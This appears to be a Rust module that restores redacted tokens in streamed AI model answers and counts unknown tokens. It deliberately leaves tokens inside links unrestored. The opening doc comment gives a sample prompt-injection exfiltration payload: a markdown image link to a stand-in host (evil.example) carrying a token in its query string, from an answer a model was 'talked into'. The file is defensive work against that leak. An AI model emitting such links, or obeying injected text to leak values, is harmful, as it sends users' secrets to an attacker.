//! Puts tokens back in an answer, also when a token is split over events of a stream.
//!
//! ```text
//! "the valve TA" | "G_7K3M9" | "QXR2W is open"   ->   "the valve " | "" | "FV-203 is open"
//! ```
//!
//! Held back is only what may still become a token of this very call, from its first byte on. The case of a
//! token does not matter; models change it. A token inside a link stays: an answer that a model was talked into,
//! `![](https://evil.example/?q=TAG_7K3M9QXR2W)`, must not carry the value out when a browser draws it.

use crate::link::Link;
use crate::token::{LONGEST_BODY, LONGEST_KIND, is_token};
use plant::{Channel, Form, Rewrite};
use std::collections::BTreeMap;
use std::fmt;
use std::ops::Bound;

/// Knows the tokens of one call and puts their values back.
#[derive(Clone, Default)]
pub struct Restorer {
    /// Token in capitals to value.
    values: BTreeMap<String, String>,
    texts: BTreeMap<u32, Text>,
    counts: RestoreCounts,
}

/// What a [`Restorer`] met.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct RestoreCounts {
    /// Tokens put back.
    pub restored: u64,
    /// Words that have the form and the check character of a token, but are none of this call's. They stay.
    pub unknown: u64,
    /// Tokens of this call that stay because they stand in a link.
    pub in_links: u64,
}

impl Restorer {
    pub(crate) fn new(values: BTreeMap<String, String>) -> Self {
        Self { values, texts: BTreeMap::new(), counts: RestoreCounts::default() }
    }

    /// Whether there is nothing to put back, so that an answer may pass unread.
    #[must_use]
    pub fn idle(&self) -> bool {
        self.values.is_empty()
    }

    /// What was met so far.
    #[must_use]
    pub fn counts(&self) -> RestoreCounts {
        self.counts
    }
}

impl fmt::Debug for Restorer {
    /// Without tokens and values: a log must hold neither.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Restorer").field("values", &self.values.len()).field("counts", &self.counts).finish_non_exhaustive()
    }
}

impl Rewrite for Restorer {
    fn push(&mut self, channel: Channel, text: &str) -> String {
        let state = self.texts.entry(channel.number).or_default();
        state.push(text, false, channel.form, &self.values, &mut self.counts)
    }

    fn finish(&mut self, channel: Channel) -> String {
        let mut state = self.texts.remove(&channel.number).unwrap_or_default();
        state.push("", true, channel.form, &self.values, &mut self.counts)
    }

    fn whole(&mut self, text: &str, form: Form) -> Option<String> {
        let rewritten = Text::default().push(text, true, form, &self.values, &mut self.counts);
        (rewritten != text).then_some(rewritten)
    }
}

/// One channel's text so far.
#[derive(Clone, Default)]
struct Text {
    /// What may still become a token. Never longer than the longest token.
    held: String,
    /// Whether the last released byte was a letter or a digit: a token does not begin there.
    inside: bool,
    link: Link,
    words: Words,
}

/// What stands at a place where a token may begin.
enum Start<'a> {
    Token { length: usize, value: &'a str },
    Undecided,
    Plain,
}

impl Text {
    fn push(
        &mut self,
        text: &str,
        end: bool,
        form: Form,
        values: &BTreeMap<String, String>,
        counts: &mut RestoreCounts,
    ) -> String {
        let mut input = std::mem::take(&mut self.held);
        input.push_str(text);
        let mut out = String::with_capacity(input.len());
        let mut rest = input.as_str();
        while !rest.is_empty() {
            let length = match if self.inside { Start::Plain } else { start(rest, end, values) } {
                Start::Undecided => {
                    rest.clone_into(&mut self.held);
                    return out;
                }
                Start::Token { length, value } if !self.link.open() => {
                    put(&mut out, value, form);
                    counts.restored += 1;
                    self.words = Words::default();
                    // The caller may assemble a link from text and value; a value is not watched for that.
                    self.inside = true;
                    rest = rest.get(length..).unwrap_or_default();
                    continue;
                }
                Start::Token { length, .. } => {
                    counts.in_links += 1;
                    self.words = Words::default();
                    length
                }
                Start::Plain => plain(rest, self.inside),
            };
            let (passed, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            self.release(passed, values, counts);
            out.push_str(passed);
            rest = after;
        }
        if end {
            self.words.end(values, counts);
        }
        out
    }

    fn release(&mut self, passed: &str, values: &BTreeMap<String, String>, counts: &mut RestoreCounts) {
        for byte in passed.bytes() {
            self.link.feed(byte);
            self.words.feed(byte, values, counts);
        }
        self.inside = passed.bytes().next_back().is_some_and(|byte| byte.is_ascii_alphanumeric());
    }
}

/// What stands at the beginning of `rest`, where the byte before is neither a letter nor a digit.
fn start<'a>(rest: &str, end: bool, values: &'a BTreeMap<String, String>) -> Start<'a> {
    let run = |text: &str| text.bytes().take_while(u8::is_ascii_alphanumeric).count();
    let kind = run(rest);
    if kind == 0 || kind > LONGEST_KIND {
        return Start::Plain;
    }
    let after = rest.get(kind..).unwrap_or_default();
    let body = after.strip_prefix('_').map(run);
    let length = body.map_or(kind, |body| kind + 1 + body);
    if length > LONGEST_KIND + 1 + LONGEST_BODY || (body.is_none() && !after.is_empty()) {
        return Start::Plain;
    }
    let word = rest.get(..length).unwrap_or_default().to_ascii_uppercase();
    if length == rest.len() && !end {
        let next = values.range::<str, _>((Bound::Included(word.as_str()), Bound::Unbounded)).next();
        let open = next.is_some_and(|(token, _)| token.starts_with(&word));
        return if open { Start::Undecided } else { Start::Plain };
    }
    values.get(&word).map_or(Start::Plain, |value| Start::Token { length, value })
}

/// How much of `rest` passes before a token may begin again: the run of letters and digits, then all others.
fn plain(rest: &str, inside: bool) -> usize {
    let run = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
    let others = rest.get(run..).unwrap_or_default().bytes().take_while(|b| !b.is_ascii_alphanumeric()).count();
    debug_assert!(run + others > 0 || rest.is_empty() || inside, "progress");
    run + others
}

fn put(out: &mut String, value: &str, form: Form) {
    match form {
        Form::Plain => out.push_str(value),
        Form::Json => {
            for character in value.chars() {
                match character {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\r' => out.push_str("\\r"),
                    '\t' => out.push_str("\\t"),
                    control if u32::from(control) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(control))),
                    other => out.push(other),
                }
            }
        }
    }
}

/// Follows the words of released text, to count those that look like tokens of another call.
#[derive(Clone, Default)]
struct Words {
    kind: String,
    word: String,
}

impl Words {
    fn feed(&mut self, byte: u8, values: &BTreeMap<String, String>, counts: &mut RestoreCounts) {
        if byte.is_ascii_alphanumeric() {
            // One more than the longest, so that longer ones are known to be too long.
            if self.word.len() <= LONGEST_BODY {
                self.word.push(char::from(byte.to_ascii_uppercase()));
            }
        } else {
            self.end(values, counts);
            if byte != b'_' {
                self.kind.clear();
            }
        }
    }

    fn end(&mut self, values: &BTreeMap<String, String>, counts: &mut RestoreCounts) {
        if is_token(&self.kind, &self.word) && !values.contains_key(&format!("{}_{}", self.kind, self.word)) {
            counts.unknown += 1;
        }
        self.kind = std::mem::take(&mut self.word);
    }
}
